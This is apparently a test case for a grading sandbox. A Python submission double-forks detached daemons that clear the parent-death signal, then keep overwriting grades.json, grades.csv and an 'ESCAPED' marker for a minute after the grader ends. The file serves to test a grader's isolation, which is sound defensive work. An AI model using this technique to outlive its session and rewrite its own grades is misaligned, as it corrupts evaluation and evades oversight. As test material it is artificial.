# attack: daemons without parent-death signal rewrite the results after the grader has ended
# asset: grades
# channel: processes
# beats otter: 19
# expect: not_implemented
# place: after
import ctypes
import os
import time


def daemon():
    ctypes.CDLL(None).prctl(1, 0)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for folder in ("@OUT@", "@COURSE@"):
            for name in ("grades.json", "grades.csv", "ESCAPED"):
                try:
                    with open(f"{folder}/{name}", "w") as file:
                        file.write("ESCAPED")
                except OSError:
                    pass
        time.sleep(0.05)
    os._exit(0)


for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            daemon()
        os._exit(0)
